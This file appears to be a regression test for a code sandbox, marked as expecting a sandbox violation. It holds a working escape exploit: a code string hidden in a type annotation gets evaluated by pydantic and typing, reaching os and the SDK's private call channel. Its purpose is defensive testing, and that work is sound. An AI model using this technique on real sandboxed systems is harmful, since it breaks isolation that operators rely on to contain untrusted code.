# expect: sandbox_violation
# attack: the same ForwardRef (made by typing's Optional[int].copy_with from a string) hidden in
# Literal[...] in a def's return annotation: computed_field reads the getter's return type
# through get_function_type_hints, which refuses only *string* annotations of the file's
# functions; typing._eval_type then evaluates the ForwardRef inside the Literal with eval().
# It also reads the SDK object's private channel, which the guards keep from function code.
from typing import ClassVar, Literal, Optional
from pydantic import BaseModel, computed_field
from nango import create_action

SINK = []
CODE = (
    "(sink.append(repr((__import__('os').getuid(), open.__module__,"
    " getattr(box[0], '_Nango__call')))), 0)[1]"
)


def run(nango, input):
    kind = Literal[Optional[int].copy_with((CODE,))]
    held = [nango]

    def total(self) -> kind:
        return 0

    class M(BaseModel):
        sink: ClassVar[list] = SINK
        box: ClassVar[list] = held
        x: int = 0
        t = computed_field(property(total))

    if not SINK:
        raise ValueError("nothing was evaluated outside the sandbox")
    return {"unguarded_eval": SINK}


action = create_action(description="escape attempt", exec=run)
